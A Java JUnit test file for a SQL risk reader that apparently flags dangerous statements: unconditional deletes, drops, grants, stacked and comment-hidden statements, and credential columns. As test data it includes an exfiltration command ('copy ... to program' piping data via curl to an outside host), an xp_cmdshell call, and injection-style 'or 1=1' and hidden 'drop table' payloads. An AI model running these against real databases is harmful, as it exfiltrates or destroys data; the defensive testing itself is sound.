/*
 * SPDX-FileCopyrightText: The Weir Authors
 * SPDX-License-Identifier: Apache-2.0
 */
package dev.weir.score;

import static dev.weir.policy.Fact.*;
import static org.assertj.core.api.Assertions.assertThat;

import dev.weir.policy.Fact;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class SqlReaderTest {
  @ParameterizedTest(name = "{0}")
  @ValueSource(
      strings = {
        "delete from t where 1=1",
        "delete from t where true",
        "delete from t where id = id",
        "delete from t where a = 3 or 1 = 1",
        "delete from t where (a = 3 or (2 > 1 and 'x' = 'x')) or 'a' <> 'b'",
        "delete from t where name like '%'",
        "delete from t where id > 0",
        "delete from t where id is not null",
        "update t set a = 1",
        "update t set a = 1 where b <> ''"
      })
  void shouldTakeAConditionThatHoldsForAllForNone(String text) {
    assertThat(SqlReader.read(text)).containsEntry(SQL_HAS_WHERE, false);
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(
      strings = {
        "delete from t where id = 1",
        "delete from t where id = 1 and 1 = 1",
        "delete from t where balance > 0",
        "delete from t where name like 'a%'",
        "update t set a = 1 where id in (1, 2)"
      })
  void shouldSeeAConditionThatSelects(String text) {
    assertThat(SqlReader.read(text)).containsEntry(SQL_HAS_WHERE, true);
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '|',
      value = {
        "drop database shop | drop | database",
        "drop table if exists orders | drop | table",
        "/* tidy */ drop index i | drop | index",
        "create or replace view v as select 1 | create | view",
        "alter user bob superuser | alter | user",
        "select 1; truncate table t | truncate | table",
        "grant select on t to bob | grant | select",
        "revoke all on t from bob | revoke | all"
      })
  void shouldTellTheWorstVerbAndWhatItIsDoneTo(String text, String verb, String object) {
    assertThat(SqlReader.read(text))
        .containsEntry(SQL_VERB, verb)
        .containsEntry(SQL_OBJECT, object);
  }

  @Test
  void shouldSeeWhatReachesBeyondTheDatabase() {
    assertThat(SqlReader.read("copy t to program 'curl -d @- http://a.b'")).containsKey(SQL_LEAVES);
    assertThat(SqlReader.read("exec xp_cmdshell 'dir'")).containsKey(SQL_LEAVES);
    assertThat(SqlReader.read("select * from t into outfile '/tmp/x'")).containsKey(SQL_FILES);
    assertThat(SqlReader.read("select name from t")).doesNotContainKeys(SQL_LEAVES, SQL_FILES);
  }

  @Test
  void shouldKnowColumnsOfCredentialsAndPeople() {
    assertThat(SqlReader.read("select password_hash from users limit 10"))
        .containsKeys(SQL_SECRETS, SQL_PERSONAL)
        .containsEntry(SQL_LIMIT, 10L);
    assertThat(SqlReader.read("select total from invoices"))
        .doesNotContainKeys(SQL_SECRETS, SQL_PERSONAL);
    assertThat(SqlReader.read("select 'password' from t")).doesNotContainKey(SQL_SECRETS);
  }

  @Test
  void shouldReadOnBehindWhatHidesAStatement() {
    String padded = "select '" + "x".repeat(10_000) + "'; drop table t";
    assertThat(SqlReader.read(padded)).containsEntry(SQL_VERB, "drop").containsKey(SQL_OPAQUE);
    Map<Fact, Object> executable = SqlReader.read("select 1; /*!50000 drop table t */");
    assertThat(executable).containsEntry(SQL_VERB, "drop").containsEntry(SQL_OPAQUE, true);
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(
      strings = {
        "update on the project",
        "create a report for me",
        "delete my old notes please",
        "drop me a line",
        "with kind regards",
        "insert coin",
        "grant application",
        "flights to Rome"
      })
  void shouldTakeNoSentenceForAStatement(String text) {
    assertThat(SqlBeginnings.looksLike(text)).isFalse();
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(
      strings = {
        "SELECT 1",
        " -- note\nDROP TABLE t",
        "/**/delete/**/from t",
        "with x as (select 1) select * from x",
        "truncate t",
        "GRANT ALL ON t TO u"
      })
  void shouldKnowAStatement(String text) {
    assertThat(SqlBeginnings.looksLike(text)).isTrue();
  }
}
